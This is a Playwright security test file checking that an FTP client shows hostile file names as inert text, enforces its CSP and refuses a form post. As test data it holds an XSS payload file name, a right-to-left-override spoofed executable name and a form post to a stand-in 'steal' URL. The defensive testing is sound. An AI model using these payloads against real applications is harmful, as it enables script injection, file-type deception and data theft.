// Issue 9 items 10, 27 and 28 in a real Chromium: the page as an attacker-controlled name or
// an injected script would find it. In the Electron project these run in the app window
// where its runtime is installed (skipped here: the binary cannot be fetched on these
// machines); the shell's own policy is unit-tested in electron/shell-policy and
// electron/main/main.smoke.test.ts.
import { expect, test } from '../app/fixtures.js';

// Names a server can hold on Linux that try to become markup or to reverse what is shown.
const MARKUP = '<img src=x onerror="window.__pwned=1">.txt';
const REVERSED = 'invoice\u202Efdp.exe';
const REVERSED_SHOWN = 'invoice\\u202Efdp.exe';

test('security 9.10: hostile names are inert text in the remote pane, the log and a dialog', async ({
  app,
  server,
}, testInfo) => {
  await server.writeFile(MARKUP, 'markup\n');
  await server.writeFile(REVERSED, 'reversed\n');
  await app.connect(server);

  // The pane: the names as text, U+202E spelled out instead of obeyed.
  await expect(app.remotePane.row(MARKUP)).toBeVisible();
  await expect(app.remotePane.row(REVERSED_SHOWN)).toBeVisible();

  // The log: downloading the file puts its name into RETR and the server's replies.
  await app.remotePane.doubleClick(MARKUP);
  await expect(app.localPane.row(MARKUP)).toBeVisible();
  await expect.poll(() => app.log.text()).toContain(`Command: RETR /${MARKUP}`);
  expect(await app.log.text()).toContain(`data connection for /${MARKUP}`);

  // A dialog: the delete confirmation names the file.
  await app.remotePane.contextAction(REVERSED_SHOWN, 'Delete');
  const confirm = app.page.getByRole('alertdialog', { name: 'Confirm deletion' });
  await expect(confirm).toContainText(REVERSED_SHOWN);
  await expect(confirm).not.toContainText(REVERSED);
  await app.attachScreenshot(testInfo, 'security 9.10: hostile names');
  await confirm.getByRole('button', { name: 'Cancel' }).click();

  // Nothing became markup anywhere, and no handler ran.
  expect(await app.page.locator('img[src="x"]').count()).toBe(0);
  expect(await app.page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
});

test('security 9.27: the page has no require, process or ipcRenderer, and window.portside is exactly the bridge', async ({
  app,
  appKind,
}) => {
  const globals = await app.page.evaluate(() => {
    const page = window as {
      require?: unknown;
      process?: unknown;
      ipcRenderer?: unknown;
      module?: unknown;
      portside?: object;
    };
    return {
      require: typeof page.require,
      process: typeof page.process,
      ipcRenderer: typeof page.ipcRenderer,
      module: typeof page.module,
      portside: page.portside === undefined ? null : Object.keys(page.portside).sort(),
    };
  });
  expect(globals).toMatchObject({
    require: 'undefined',
    process: 'undefined',
    ipcRenderer: 'undefined',
    module: 'undefined',
  });
  // Electron: the preload's four named functions. Browser host: no object at all (the page
  // talks to the host over its WebSocket, which checks a per-launch token).
  expect(globals.portside).toEqual(
    appKind === 'electron' ? ['desktop', 'invoke', 'on', 'send'] : null,
  );
});

test('security 9.28: inline script and inline handlers violate the CSP; a form post and permissions are refused', async ({
  app,
  appKind,
}) => {
  const outcome = await app.page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(event.effectiveDirective),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.body.append(script);
    // An inline event handler is inline script too (script-src-attr).
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.__handlerRan = true;');
    document.body.append(button);
    button.click();
    button.remove();
    const form = document.createElement('form');
    form.action = 'https://example.invalid/steal';
    form.method = 'post';
    document.body.append(form);
    form.requestSubmit();
    // Violation reports are queued as tasks; give them a turn.
    await new Promise((resolve) => setTimeout(resolve, 200));
    form.remove();
    script.remove();
    return {
      violations,
      inlineRan: (window as { __inlineRan?: unknown }).__inlineRan === true,
      handlerRan: (window as { __handlerRan?: unknown }).__handlerRan === true,
      location: window.location.origin,
    };
  });
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.handlerRan).toBe(false);
  expect(outcome.violations).toEqual(
    expect.arrayContaining(['script-src-elem', 'script-src-attr', 'form-action']),
  );
  // The form post did not navigate anywhere: the app's document is still the one shown.
  // (Playwright's own locators would wait for the refused navigation, so this asks the page.)
  expect(new URL(app.page.url()).origin).toBe(outcome.location);
  expect(
    await app.page.evaluate(
      () => document.querySelector('form[aria-label="Quickconnect"]') !== null,
    ),
  ).toBe(true);

  if (appKind === 'web') {
    // Permission requests: the host's Permissions-Policy answers "denied" without a prompt.
    const states = await app.page.evaluate(async () =>
      Promise.all(
        (['geolocation', 'camera', 'microphone'] as const).map(async (name) => {
          const status = await navigator.permissions.query({ name: name as PermissionName });
          return `${name}:${status.state}`;
        }),
      ),
    );
    expect(states).toEqual(['geolocation:denied', 'camera:denied', 'microphone:denied']);
  }
});
